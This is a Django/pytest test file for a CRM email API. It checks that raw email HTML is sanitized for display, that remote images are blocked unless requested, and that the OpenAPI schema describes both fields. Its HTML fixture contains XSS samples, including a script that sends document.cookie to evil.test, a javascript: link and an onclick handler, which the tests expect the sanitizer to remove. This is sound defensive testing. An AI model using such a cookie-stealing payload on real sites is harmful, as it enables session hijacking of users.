"""The email API's two HTML fields: body_html raw, as received, and
body_html_sanitized, safe to display, with remote images only on request;
the OpenAPI schema says which is which."""

from __future__ import annotations

from email.message import EmailMessage

import pytest
from rest_framework.test import APIClient

from crm.html import sanitize_email_html
from crm.models import EmailActivity
from sync.incoming import sync_incoming
from tests import factories
from tests.sync.received_mail import signed_in
from tests.sync.stack import Stack

pytestmark = pytest.mark.django_db

HTML = (
    '<p>Your <b>quote</b> is <a href="https://contoso.test/q/1">here</a>.</p>'
    '<img src="cid:logo@contoso.test" alt="logo">'
    '<img src="https://tracker.test/open.gif" alt="">'
    '<script>document.location="https://evil.test/?c="+document.cookie</script>'
    '<a href="JaVaScRiPt:alert(document.domain)" onclick="alert(1)">more</a>'
)
BLOCKED = (
    '<p>Your <b>quote</b> is <a href="https://contoso.test/q/1" target="_blank" rel="noopener noreferrer">'
    'here</a>.</p><img src="cid:logo@contoso.test" alt="logo"><img alt="">'
    '<a target="_blank" rel="noopener noreferrer">more</a>'
)
WITH_REMOTE = BLOCKED.replace('<img alt="">', '<img src="https://tracker.test/open.gif" alt="">')


@pytest.fixture
def schema() -> dict:
    return APIClient().get("/api/schema/", {"format": "json"}).json()


def test_the_schema_says_which_field_is_raw_and_which_is_safe_to_display(schema):
    email = schema["components"]["schemas"]["Email"]["properties"]

    assert email["body_html"]["type"] == "string"
    assert "raw" in email["body_html"]["description"]
    assert "Never render it" in email["body_html"]["description"]
    sanitized = email["body_html_sanitized"]
    assert (sanitized["type"], sanitized["readOnly"]) == ("string", True)
    assert "safe to display" in sanitized["description"]
    assert "?remote_images=true" in sanitized["description"]
    # What a client sends: the raw field only.
    request = schema["components"]["schemas"]["EmailRequest"]["properties"]
    assert "body_html" in request
    assert "body_html_sanitized" not in request


@pytest.mark.parametrize(
    ("path", "method"),
    [("/api/v1/emails/", "get"), ("/api/v1/emails/{id}/", "get"), ("/api/v1/emails/", "post")],
)
def test_every_operation_answering_with_emails_documents_remote_images(schema, path, method):
    parameters = {p["name"]: p for p in schema["paths"][path][method]["parameters"]}

    remote = parameters["remote_images"]
    assert (remote["in"], remote.get("required", False)) == ("query", False)
    assert remote["schema"] == {"type": "boolean", "default": False}
    assert "removed by default" in remote["description"]


def test_an_email_answers_both_fields_remote_images_only_when_asked(api_as, world):
    email = factories.email(owner=world["alice"].crm_user, body_html=HTML)
    client = api_as("alice")
    url = f"/api/v1/emails/{email.pk}/"

    body = client.get(url).json()

    assert body["body_html"] == HTML
    assert body["body_html_sanitized"] == BLOCKED == sanitize_email_html(HTML)
    assert client.get(url, {"remote_images": "true"}).json()["body_html_sanitized"] == WITH_REMOTE
    # Anything but a yes keeps them out.
    for junk in ("false", "yes please", "", "tru"):
        assert client.get(url, {"remote_images": junk}).json()["body_html_sanitized"] == BLOCKED


def test_the_list_answers_the_sanitized_field_for_every_email(api_as, world):
    factories.email(owner=world["alice"].crm_user, body_html=HTML)

    rows = api_as("alice").get("/api/v1/emails/", {"remote_images": "true"}).json()["results"]

    assert {row["body_html_sanitized"] for row in rows if row["body_html"]} == {WITH_REMOTE}
    assert all(row["body_html_sanitized"] == "" for row in rows if not row["body_html"])


def test_a_new_email_is_answered_sanitized_and_the_sanitized_field_cannot_be_written(api_as, world):
    response = api_as("alice").post(
        "/api/v1/emails/",
        {"subject": "Quote", "body_html": HTML, "body_html_sanitized": "<script>x</script>"},
        format="json",
    )

    assert response.status_code == 201, response.content
    assert (response.json()["body_html"], response.json()["body_html_sanitized"]) == (HTML, BLOCKED)
    assert EmailActivity.objects.get(pk=response.json()["id"]).body_html == HTML


def test_a_received_html_email_comes_back_raw_and_sanitized(stack: Stack):
    """Delivered to the test Dovecot, synced for real, read through the API."""
    alice = stack.user_mailbox("alice")
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = "carl@example.org", alice.email_address, "Quote"
    message.set_content("Your quote is here.")
    message.add_alternative(HTML, subtype="html")
    message.get_payload()[1].add_related(b"GIF89a", "image", "gif", cid="<logo@contoso.test>")
    stack.deliver(alice, message.as_bytes())
    sync_incoming(mailbox=alice)
    email = EmailActivity.objects.get(subject="Quote")

    body = signed_in("alice", mailbox=alice).get(f"/api/v1/emails/{email.pk}/").json()

    assert body["body_html"].strip() == HTML  # as the parser took it from the message
    assert body["body_html_sanitized"].strip() == BLOCKED
